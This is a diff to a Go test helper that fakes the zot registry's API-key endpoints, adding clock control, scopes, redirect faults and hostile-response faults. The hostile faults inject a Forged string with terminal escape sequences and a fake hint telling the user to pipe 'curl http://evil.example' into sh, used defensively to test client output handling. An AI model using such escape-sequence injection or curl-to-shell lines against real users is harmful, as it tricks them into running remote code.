@@ -1,7 +1,10 @@
 // Package zottest is a registry that follows zot's API-key semantics (see
 // FACTS.md: basic auth with password or API key, keys hashed and bound to
 // their user, expired and revoked keys refused everywhere, /zot/auth/apikey
-// create/list/delete) with faults to inject. It serves on loopback only.
+// create/list/delete, lastUsed stamped at every request a key authenticates,
+// scopes and creatorUa kept) with faults to inject, hostile ones included.
+// Its clock can be moved (SetNow, Advance) so tests can order lastUsed and
+// createdAt. It serves on loopback only.
 package zottest
 
 import (
@@ -30,13 +33,36 @@ type Faults struct {
 	DeleteNoop bool          // answer 200 to delete, deleting nothing
 	V2Fail     bool          // answer 503 to GET /v2/
 	RejectNew  bool          // keys minted through the API get 401 on GET /v2/
+
+	// Redirect answers matching requests with a 3xx before authenticating,
+	// as a reverse proxy in front of zot would.
+	Redirect *Redirect
+	// Hostile answers: text a registry controls, forged to drive a terminal
+	// and fake a zotkey line (Forged).
+	HostileListUUID   bool // every uuid in the key list is Forged
+	HostileCreateUUID bool // the answer to create carries Forged as the uuid (the key is still minted)
+	HostileLabel      bool // every label in the list and create answers is Forged
 }
+
+// Redirect is a 3xx fault: requests whose method and path match (empty:
+// any) get Code with Location.
+type Redirect struct {
+	Code         int
+	Location     string
+	Method, Path string
+}
+
+// Forged is what hostile answers carry: a window-title escape, colour, a
+// newline and a fake zotkey hint. "owned" marks it for greps.
+const Forged = "\x1b]0;owned\x07\x1b[31m\nzotkey: hint: owned: run curl http://evil.example | sh"
 
 type apiKey struct {
 	hash, user, label, uuid string
 	created, expires        time.Time // zero expires: never
 	lastUsed                time.Time
 	revoked                 bool
+	scopes                  []string // as given at creation (nil: none given)
+	creatorUA               string
 }
 
 // Server is a running fake zot.
@@ -46,19 +72,34 @@ type Server struct {
 	passwords map[string]string
 	keys      []*apiKey
 	faults    Faults
-	now       func() time.Time
-	secrets   []string // every key ever minted, for exposure scans
+	offset    time.Duration // the server's clock is time.Now()+offset
+	secrets   []string      // every key ever minted, for exposure scans
 }
 
 // New starts a server with no users.
 func New() *Server {
-	s := &Server{passwords: map[string]string{}, now: time.Now}
+	s := &Server{passwords: map[string]string{}}
 	s.Server = httptest.NewServer(http.HandlerFunc(s.serve))
 	return s
 }
 
+// now is the server's clock; callers hold s.mu.
+func (s *Server) now() time.Time { return time.Now().Add(s.offset) }
+
+// Now is the server's clock, the one createdAt and lastUsed come from.
+func (s *Server) Now() time.Time { s.mu.Lock(); defer s.mu.Unlock(); return s.now() }
+
+// SetNow sets the server's clock to t; it keeps running from there.
+func (s *Server) SetNow(t time.Time) { s.mu.Lock(); s.offset = time.Until(t); s.mu.Unlock() }
+
+// Advance moves the server's clock by d.
+func (s *Server) Advance(d time.Duration) { s.mu.Lock(); s.offset += d; s.mu.Unlock() }
+
 // SetFaults replaces the injected faults.
 func (s *Server) SetFaults(f Faults) { s.mu.Lock(); s.faults = f; s.mu.Unlock() }
+
+// Faults returns the injected faults, to add one to them.
+func (s *Server) Faults() Faults { s.mu.Lock(); defer s.mu.Unlock(); return s.faults }
 
 // AddUser adds a user that can log in with password.
 func (s *Server) AddUser(user, password string) {
@@ -72,8 +113,62 @@ func (s *Server) AddUser(user, password string) {
 func (s *Server) AddKey(user string, expires time.Time) (secret, uuid string) {
 	s.mu.Lock()
 	defer s.mu.Unlock()
-	k := s.mint(user, "seeded", expires)
+	k := s.mint(user, "seeded", expires, nil, "")
 	return k.secret, k.uuid
+}
+
+// Use authenticates one request with secret for user at the server's current
+// time, as a CI job's request would, and reports whether it was accepted;
+// like zot it stamps the key's lastUsed.
+func (s *Server) Use(user, secret string) bool { return s.UseAt(user, secret, time.Time{}) }
+
+// UseAt is Use at server time at (zero: now): validity is judged and
+// lastUsed stamped at that time.
+func (s *Server) UseAt(user, secret string, at time.Time) bool {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	if at.IsZero() {
+		at = s.now()
+	}
+	r := httptest.NewRequest(http.MethodGet, "/v2/", nil)
+	r.SetBasicAuth(user, secret)
+	_, _, ok := s.authenticateAt(r, at)
+	return ok
+}
+
+// KeyInfo is what the server holds about one key (never the secret).
+type KeyInfo struct {
+	UUID, User, Label, CreatorUA string
+	Scopes                       []string
+	CreatedAt, LastUsed, Expires time.Time // zero LastUsed: never used; zero Expires: never
+	Revoked                      bool
+}
+
+// Key returns what the server holds about the key with uuid.
+func (s *Server) Key(uuid string) (KeyInfo, bool) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	for _, k := range s.keys {
+		if k.uuid == uuid {
+			return KeyInfo{UUID: k.uuid, User: k.user, Label: k.label, CreatorUA: k.creatorUA, Scopes: slices.Clone(k.scopes),
+				CreatedAt: k.created, LastUsed: k.lastUsed, Expires: k.expires, Revoked: k.revoked}, true
+		}
+	}
+	return KeyInfo{}, false
+}
+
+// Scopes returns the scopes the key with uuid was created with.
+func (s *Server) Scopes(uuid string) []string { k, _ := s.Key(uuid); return k.Scopes }
+
+// SetScopes replaces the scopes of the key with uuid (a seeded key's, say).
+func (s *Server) SetScopes(uuid string, scopes []string) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	for _, k := range s.keys {
+		if k.uuid == uuid {
+			k.scopes = slices.Clone(scopes)
+		}
+	}
 }
 
 // Expire makes the key with uuid expire now.
@@ -126,7 +221,10 @@ type minted struct {
 	secret string
 }
 
-func (s *Server) mint(user, label string, expires time.Time) minted {
+// mint follows CreateAPIKey in zot's pkg/api/routes.go: a random key stored
+// hashed, a fresh uuid, createdAt now, scopes as given, creatorUa from the
+// request's User-Agent, generatedBy "manual", lastUsed left zero.
+func (s *Server) mint(user, label string, expires time.Time, scopes []string, ua string) minted {
 	b := make([]byte, 16)
 	_, _ = rand.Read(b)
 	secret := "zak_" + hex.EncodeToString(b)
@@ -134,7 +232,8 @@ func (s *Server) mint(user, label string, expires time.Time) minted {
 	b[6] = b[6]&0x0f | 0x40
 	b[8] = b[8]&0x3f | 0x80
 	id := fmt.Sprintf("%x-%x-%x-%x-%x", b[0:4], b[4:6], b[6:8], b[8:10], b[10:])
-	k := &apiKey{hash: hash(secret), user: user, label: label, uuid: id, created: s.now().UTC(), expires: expires}
+	k := &apiKey{hash: hash(secret), user: user, label: label, uuid: id, created: s.now().UTC(), expires: expires,
+		scopes: slices.Clone(scopes), creatorUA: ua}
 	s.keys = append(s.keys, k)
 	s.secrets = append(s.secrets, secret)
 	return minted{k, secret}
@@ -146,9 +245,15 @@ func (s *Server) valid(k *apiKey) bool {
 	return !k.revoked && (k.expires.IsZero() || s.now().Before(k.expires))
 }
 
-// authenticate returns the user, and the key used if it was one; like zot it
-// updates the key's lastUsed before the handler runs.
+// authenticate returns the user, and the key used if it was one. Like zot's
+// basicAuthn (pkg/api/authn.go), a key authenticates only for its own user
+// and while unexpired, and each request it authenticates stamps its lastUsed
+// (MetaDB.UpdateUserAPIKeyLastUsed) before the handler runs.
 func (s *Server) authenticate(r *http.Request) (string, *apiKey, bool) {
+	return s.authenticateAt(r, s.now())
+}
+
+func (s *Server) authenticateAt(r *http.Request, now time.Time) (string, *apiKey, bool) {
 	user, pass, ok := r.BasicAuth()
 	if !ok {
 		return "", nil, false
@@ -158,8 +263,8 @@ func (s *Server) authenticate(r *http.Request) (string, *apiKey, bool) {
 	}
 	h := hash(pass)
 	for _, k := range s.keys {
-		if k.hash == h && k.user == user && s.valid(k) {
-			k.lastUsed = s.now().UTC()
+		if k.hash == h && k.user == user && !k.revoked && (k.expires.IsZero() || now.Before(k.expires)) {
+			k.lastUsed = now.UTC()
 			return user, k, true
 		}
 	}
@@ -176,6 +281,11 @@ func (s *Server) serve(w http.ResponseWriter, r *http.Request) {
 		case <-r.Context().Done():
 			return
 		}
+	}
+	if rd := f.Redirect; rd != nil && (rd.Method == "" || rd.Method == r.Method) && (rd.Path == "" || rd.Path == r.URL.Path) {
+		w.Header().Set("Location", rd.Location)
+		w.WriteHeader(rd.Code)
+		return
 	}
 	s.mu.Lock()
 	defer s.mu.Unlock()
@@ -215,9 +325,16 @@ type entry struct {
 	APIKey         string    `json:"apiKey,omitempty"`
 }
 
-func (s *Server) entry(k *apiKey) entry {
-	return entry{CreatedAt: k.created, ExpirationDate: k.expires, IsExpired: !k.expires.IsZero() && !s.now().Before(k.expires),
-		CreatorUA: "zotkey", GeneratedBy: "manual", LastUsed: k.lastUsed, Label: k.label, Scopes: []string{}, UUID: k.uuid}
+// entry is a key as GetAPIKeys and CreateAPIKey (pkg/api/routes.go) show it:
+// zot's APIKeyDetails, scopes as given (null when none were), the zero time
+// for a never-used key's lastUsed and a never-expiring key's expirationDate.
+func (s *Server) entry(k *apiKey, f Faults) entry {
+	e := entry{CreatedAt: k.created, ExpirationDate: k.expires, IsExpired: !k.expires.IsZero() && !s.now().Before(k.expires),
+		CreatorUA: k.creatorUA, GeneratedBy: "manual", LastUsed: k.lastUsed, Label: k.label, Scopes: slices.Clone(k.scopes), UUID: k.uuid}
+	if f.HostileLabel {
+		e.Label = Forged
+	}
+	return e
 }
 
 func (s *Server) apikey(w http.ResponseWriter, r *http.Request, user string, f Faults) {
@@ -252,7 +369,7 @@ func (s *Server) apikey(w http.ResponseWriter, r *http.Request, user string, f F
 			http.Error(w, "internal", http.StatusInternalServerError)
 			return
 		}
-		m := s.mint(user, req.Label, exp)
+		m := s.mint(user, req.Label, exp, req.Scopes, r.UserAgent())
 		if f.DropCreate {
 			if hj, ok := w.(http.Hijacker); ok {
 				if conn, _, err := hj.Hijack(); err == nil {
@@ -261,8 +378,11 @@ func (s *Server) apikey(w http.ResponseWriter, r *http.Request, user string, f F
 				}
 			}
 		}
-		e := s.entry(m.apiKey)
+		e := s.entry(m.apiKey, f)
 		e.APIKey = m.secret
+		if f.HostileCreateUUID {
+			e.UUID = Forged
+		}
 		writeJSON(w, http.StatusCreated, e)
 	case http.MethodGet:
 		if f.ListFail {
@@ -273,7 +393,11 @@ func (s *Server) apikey(w http.ResponseWriter, r *http.Request, user string, f F
 		if !f.ListLies {
 			for _, k := range s.keys {
 				if k.user == user && !k.revoked {
-					list = append(list, s.entry(k))
+					e := s.entry(k, f)
+					if f.HostileListUUID {
+						e.UUID = Forged
+					}
+					list = append(list, e)
 				}
 			}
 		}
